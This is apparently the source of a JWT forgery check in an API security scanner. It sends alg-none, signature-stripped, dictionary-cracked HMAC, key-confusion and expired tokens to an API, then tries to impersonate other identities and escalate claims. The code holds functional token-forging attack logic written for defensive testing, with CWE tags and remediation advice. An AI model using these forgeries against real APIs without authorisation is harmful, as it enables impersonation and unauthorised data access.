"""``jwt`` (API2): forged, unsigned, re-signed and expired JWTs that the API still accepts.

Runs once per scan, on one *representative* secured GET (``bearer.subject``: an answer
that belongs to the caller and names it) for an identity whose credential is a JWT.
First the API must refuse that request anonymously and with a garbage token — else
tokens are not checked at all, which is ``auth_bypass``'s finding. Then, each attack
sends the identity's own claims in a rebuilt token and is a finding only when the
answer is the legitimate one (2xx, same data); it then forges a token for *another*
identity (preferably of another role) and, when the answer is that identity's data,
impersonation is shown and the finding is critical:

  alg-none                ``alg: none`` (and None/NONE/nOnE) with an empty signature
  signature-not-verified  the real header with the signature stripped or corrupted
  weak-hmac-secret        an HS* token's secret cracked offline from a dictionary
                          (``checks._weak_keys``: ``jwt_secrets.txt`` plus words of
                          the API's title and host)
  key-confusion           an RS/ES/PS token re-signed HS256 with the public key found
                          in a JWKS on the target (well-known URLs, OpenID configuration)
  expiry-not-checked      the same claims with ``exp`` a day in the past, signed with a
                          cracked or confused key (an unsigned one taken would only
                          repeat alg-none: not sent)
  no-expiry               no new traffic: the token the API issued has no ``exp`` claim,
                          so a stolen token works until the signing key changes

One finding per attack for the whole API, naming the other operations the same token
secures, so a report stays readable. A cracked secret is shown as its first two
characters and its length only.
"""

from __future__ import annotations

import functools
import time
from collections.abc import AsyncIterator, Callable, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from apiward.core.findings import Confidence, Severity
from apiward.scan.check import Outcome, Skip, SkipReason
from apiward.scan.checks import _jwt_tokens as tokens
from apiward.scan.checks import _weak_keys as weak_keys
from apiward.scan.checks._bearer import (
    Subject,
    accepted,
    alone,
    listing,
    secured_gets,
    strip,
    subject,
    swap,
    token_of,
)
from apiward.scan.checks._jwt_chain import escalate
from apiward.scan.context import Context
from apiward.scan.diff import SAME, similarity
from apiward.scan.identities import Identity
from apiward.scan.request import Request
from apiward.scan.transport import Reply
from apiward.spec import Operation

Forge = Callable[[Mapping[str, Any]], str]
NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
JWKS_PATHS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/jwks", "/oauth2/jwks")
OIDC_PATH = "/.well-known/openid-configuration"
GARBAGE = "apiward.invalid.token"
EXPIRED_AGO = 86_400


@dataclass(frozen=True, slots=True, kw_only=True)
class Victim:
    """Another identity the forged token claims to be, and what it legitimately gets."""

    identity: Identity
    claims: Mapping[str, Any]
    legit: Reply


@dataclass(frozen=True, slots=True, kw_only=True)
class Got:
    """What one attack got: the own-claims reply, and the impersonation reply if it worked."""

    own: Reply
    impersonation: Reply | None


WEAKNESS = {
    "weak-hmac-secret": "CWE-1391",  # use of weak credentials: the secret is in a wordlist
    "expiry-not-checked": "CWE-613",  # insufficient session expiration
    "no-expiry": "CWE-613",
}
"""The specific weakness of a forgery, by finding key; the others are CWE-347 (signature)."""


class JwtForgery:
    """JWTs accepted unsigned, with a bad signature, a weak secret, a confused key or expired."""

    id = "jwt"
    title = "Forged or expired JWT accepted"
    owasp = "API2:2023"
    cwe = "CWE-347"
    safe = True
    remediation = (
        "Verify every token with a JWT library pinned to the one algorithm you issue "
        "(never the token's own 'alg'), reject 'none', use a random secret of at least "
        "256 bits (or asymmetric keys, never usable as an HMAC secret), and check 'exp'."
    )

    async def run_once(self, ctx: Context) -> AsyncIterator[Outcome]:
        """Find a JWT-bearing identity and a representative operation; try every attack."""
        if not ctx.identities:
            yield Skip(reason=SkipReason.NO_IDENTITIES)
            return
        target = await _target(ctx)
        if target is None:
            yield Skip(
                reason=SkipReason.NOT_APPLICABLE,
                detail="no identity sends a JWT that a secured GET answers",
            )
            return
        refused = await _refusals(ctx, target)
        if refused is None:
            yield Skip(
                reason=SkipReason.NOT_APPLICABLE,
                detail=f"{target.operation.key} answers without a valid token (see auth_bypass)",
            )
            return
        attacks = _Attacks(self, ctx, target, refused, await _victim(ctx, target))
        attacks.secured = await secured_gets(ctx)
        async for outcome in attacks.run():
            yield outcome


class _Attacks:
    """The attacks on one subject; ``signer`` is set when a real key was recovered."""

    def __init__(
        self,
        check: JwtForgery,
        ctx: Context,
        target: Subject,
        refused: Reply,
        victim: Victim | None,
    ) -> None:
        self.check, self.ctx, self.target, self.refused = check, ctx, target, refused
        self.victim = victim
        self.token = _jwt(target.token)
        self.signer: tuple[Forge, str] | None = None
        self.unsigned: Forge | None = None
        self.proof: Reply | None = None
        """The accepted own-claims forgery: step 1 of a chain."""
        self.secured: list[Operation] = []
        """Every secured GET, listed in each finding (taking the same token, not probed)."""

    async def run(self) -> AsyncIterator[Outcome]:
        """Every attack in turn; the expiry test last, as it needs a way to sign."""
        if "exp" not in self.token.claims:
            yield self.check_finding(
                "no-expiry",
                [],
                severity=Severity.MEDIUM,
                confidence=Confidence.CONFIRMED,
                what=f"a token it issued with no exp claim (claims: {_names(self.token.claims)})",
                title="JWT issued without expiry",
            )
        for attack in (self.alg_none, self.bad_signature, self.weak_secret, self.confusion):
            outcome = await attack()
            if outcome is not None:
                yield outcome
        async for outcome in self.expiry():
            yield outcome
        chained = await self.chain()
        if chained is not None:
            yield chained

    async def chain(self) -> Outcome | None:
        """With a working forgery, raise the token's claims and reach what the identity may not."""
        if self.signer is not None:
            forge, how = self.signer
        elif self.unsigned is not None:
            forge, how = self.unsigned, "an unsigned or unverified token"
        else:
            return None
        if self.proof is None:
            return None
        reached = await escalate(self.ctx, self.target, self.token.claims, forge)
        if not reached:
            return None
        first, names = reached[0], ", ".join(r.operation.key for r in reached)
        return self.ctx.finding(
            self.check,
            first.operation,
            title=f"Forged JWT with {first.raised} reaches {first.operation.key}",
            severity=Severity.CRITICAL,
            confidence=Confidence.CONFIRMED,
            detail=(
                f"Step 1: the API accepts {how} ({self.proof.sent.method} "
                f"{self.proof.sent.path} answered {self.proof.status}). Step 2: the same forgery "
                f"with {first.raised} gets {names} answered, which {first.who} is refused "
                f"({first.refused.status}) with its real token."
            ),
            evidence=[self.proof, first.refused, first.reply],
            key=f"chain:{first.raised}",
            cwe="CWE-347",
        )

    async def attempt(self, forge: Forge, label: str) -> Got | None:
        """The own-claims token; when accepted, a token for the victim as well."""
        own = await self.send(forge(self.token.claims), f"jwt: {label}")
        if not await accepted(self.ctx, self.target.legit, own):
            return None
        self.proof = self.proof or own
        victim = self.victim
        if victim is None:
            return Got(own=own, impersonation=None)
        reply = await self.send(forge(victim.claims), f"jwt: {label}, as {victim.identity.name}")
        if not reply.ok or similarity(reply.text, self.target.legit.text) >= SAME:
            return Got(own=own, impersonation=None)
        # Other checks (or users) may have changed the victim's data since its baseline:
        # compare with what its real token gets now, or the severity follows that traffic.
        now = await self.ctx.send(
            self.ctx.legit_request(self.target.operation, victim.identity),
            as_=victim.identity,
            note=f"jwt: {victim.identity.name}'s real token, for comparison",
        )
        shown = any(similarity(reply.text, r.text) >= SAME for r in (victim.legit, now) if r.ok)
        return Got(own=own, impersonation=reply if shown else None)

    async def send(self, token: str, note: str) -> Reply:
        """The legitimate request with ``token`` in place of the identity's."""
        target = self.target
        sent = alone(self.ctx, target.identity, target.legit.sent, target.token)
        return await self.ctx.send(swap(sent, target.token, token), as_=None, note=note)

    async def alg_none(self) -> Outcome | None:
        """``alg: none`` in its usual spellings, with an empty signature."""
        header = self.token.header
        for alg in NONE_SPELLINGS:
            forge = _unsigned_as(header, alg)
            got = await self.attempt(forge, f"alg {alg}")
            if got is not None:
                self.unsigned = self.unsigned or forge
                return self.finding(
                    "alg-none", got, f'a token with "alg": "{alg}" and no signature'
                )
        return None

    async def bad_signature(self) -> Outcome | None:
        """The real header and claims with the signature stripped, then corrupted."""
        header, alg = self.token.header, self.token.alg
        forges: tuple[tuple[str, Forge], ...] = (
            ("signature stripped", _unsigned_as(header, alg)),
            ("signature corrupted", functools.partial(tokens.corrupted, self.token)),
        )
        for label, forge in forges:
            got = await self.attempt(forge, label)
            if got is not None:
                self.unsigned = self.unsigned or forge
                return self.finding("signature-not-verified", got, f"a token with its {label}")
        return None

    async def weak_secret(self) -> Outcome | None:
        """Crack the HMAC secret offline, then sign tokens with it."""
        if self.token.alg.upper() not in tokens.HMACS:
            return None
        secret = weak_keys.guess(weak_keys.of_api(self.ctx), tokens.signs(self.token))
        if secret is None:
            return None
        alg = self.token.alg.upper()
        forge = _signed(self.token.header, secret.encode(), alg)
        shown = weak_keys.hint(secret)
        got = await self.attempt(forge, "re-signed with a cracked secret")
        if got is None:
            return None
        self.signer = (forge, f"the cracked secret {shown}")
        return self.finding(
            "weak-hmac-secret", got, f"a token re-signed with the dictionary secret {shown}"
        )

    async def confusion(self) -> Outcome | None:
        """RS/ES/PS tokens re-signed HS256 with the public key bytes as the HMAC secret."""
        if self.token.alg.upper()[:2] not in {"RS", "ES", "PS"}:
            return None
        for pem in await _public_keys(self.ctx):
            forge = _signed(self.token.header, pem, "HS256")
            got = await self.attempt(forge, "HS256 keyed with the public key")
            if got is not None:
                self.signer = (forge, "HS256 keyed with the published public key")
                return self.finding(
                    "key-confusion", got, "a token signed HS256 with the public key as secret"
                )
        return None

    async def expiry(self) -> AsyncIterator[Outcome]:
        """The own claims with ``exp`` in the past: confirmed only when properly signed."""
        if self.signer is None:
            # An unsigned expired token the API takes shows no more than ``alg: none`` does:
            # an API that skips the signature is no evidence about ``exp``.
            detail = "expiry: no way to sign a token (an unsigned one would only repeat alg none)"
            yield Skip(reason=SkipReason.NOT_APPLICABLE, detail=detail)
            return
        forge, how = self.signer
        now = int(time.time())
        claims = {**self.token.claims, "exp": now - EXPIRED_AGO}
        for key in ("iat", "nbf"):
            if key in claims:
                claims[key] = now - EXPIRED_AGO - 3600
        reply = await self.send(forge(claims), "jwt: expired a day ago")
        if await accepted(self.ctx, self.target.legit, reply):
            yield self.check_finding(
                "expiry-not-checked",
                [reply],
                severity=Severity.MEDIUM,
                confidence=Confidence.CONFIRMED,
                what=f"a token whose exp lies a day in the past ({how})",
                title="Expired JWT accepted",
            )

    def finding(self, key: str, got: Got, what: str) -> Outcome:
        """A forgery finding: critical when another identity was impersonated."""
        replies = [got.own] if got.impersonation is None else [got.own, got.impersonation]
        victim = self.victim
        impersonated = got.impersonation is not None and victim is not None
        also = (
            f" A token for {victim.identity.name} got {victim.identity.name}'s data."
            if impersonated and victim
            else ""
        )
        return self.check_finding(
            key,
            replies,
            severity=Severity.CRITICAL if impersonated else Severity.HIGH,
            confidence=Confidence.CONFIRMED,
            what=what + "." + also,
            title=f"JWT accepted: {what}",
        )

    def check_finding(
        self,
        key: str,
        replies: list[Reply],
        *,
        severity: Severity,
        confidence: Confidence,
        what: str,
        title: str,
    ) -> Outcome:
        """The finding on the representative operation, listing the other secured ones."""
        op = self.target.operation
        others = listing(self.secured, op) or "none"
        detail = (
            f"{op.key} answered {self.target.identity.name}'s data to {what} "
            f"(while refusing a garbage token: {self.refused.status}). Other secured GETs "
            f"taking the same token, not probed separately: {others}."
        )
        return self.ctx.finding(
            self.check,
            op,
            title=title,
            severity=severity,
            confidence=confidence,
            detail=detail,
            evidence=[self.target.legit, self.refused, *replies],
            key=key,
            cwe=WEAKNESS.get(key, ""),
        )


def _names(claims: Mapping[str, Any]) -> str:
    return ", ".join(sorted(claims)) or "none"


def _unsigned_as(header: Mapping[str, Any], alg: str) -> Forge:
    """Tokens claiming ``alg`` with an empty signature."""

    def forge(claims: Mapping[str, Any]) -> str:
        return tokens.unsigned(header, claims, alg)

    return forge


def _signed(header: Mapping[str, Any], key: bytes, alg: str) -> Forge:
    """Tokens HMAC-signed with ``key``."""

    def forge(claims: Mapping[str, Any]) -> str:
        return tokens.sign(header, claims, key, alg)

    return forge


def _jwt(token: str) -> tokens.Jwt:
    found = tokens.find(token)
    if found is None:  # _target only picks JWT-bearing identities
        raise ValueError("the subject's token is not a JWT")
    return found


def _base(ctx: Context) -> str:
    return ctx.sessions.transport.base_url


async def _target(ctx: Context) -> Subject | None:
    """The first identity whose token is a JWT, with its representative operation."""
    for identity in ctx.identities:
        token = token_of(ctx, identity)
        jwt = tokens.find(token) if token else None
        if token and jwt is not None:
            return await subject(ctx, identity, jwt.raw)
    return None


async def _refusals(ctx: Context, target: Subject) -> Reply | None:
    """The garbage-token reply when both it and the anonymous one are refused, else None."""
    sent = alone(ctx, target.identity, target.legit.sent, target.token)
    garbage = await ctx.send(swap(sent, target.token, GARBAGE), as_=None, note="jwt: garbage token")
    anonymous = await ctx.send(strip(sent, target.token), as_=None, note="jwt: no token")
    for reply in (garbage, anonymous):
        if reply.ok and similarity(reply.text, target.legit.text) >= SAME:
            return None
    return garbage


async def _victim(ctx: Context, target: Subject) -> Victim | None:
    """Another JWT-bearing identity whose answer differs; another role first."""
    others = sorted(
        (i for i in ctx.identities if i.name != target.identity.name),
        key=lambda i: i.role == target.identity.role,
    )
    for other in others:
        token = token_of(ctx, other)
        jwt = tokens.find(token) if token else None
        if jwt is None:
            continue
        legit = await ctx.legit(target.operation, other)
        if legit.ok and similarity(legit.text, target.legit.text) < SAME:
            return Victim(identity=other, claims=jwt.claims, legit=legit)
    return None


async def _public_keys(ctx: Context) -> list[bytes]:
    """PEM public keys from JWK sets on the target (well-known paths, OpenID configuration)."""
    paths = list(JWKS_PATHS)
    config = await _get(ctx, OIDC_PATH)
    uri = config.get("jwks_uri") if isinstance(config, dict) else None
    if isinstance(uri, str):
        parts = urlsplit(uri)
        paths.insert(0, parts.path)
    found: list[bytes] = []
    for path in dict.fromkeys(paths):
        found += [pem for pem in tokens.public_pems(await _get(ctx, path)) if pem not in found]
    return found


async def _get(ctx: Context, path: str) -> Any:
    reply = await ctx.send(Request(method="GET", path=path), as_=None, note="jwt: key discovery")
    return reply.data if reply.ok else None
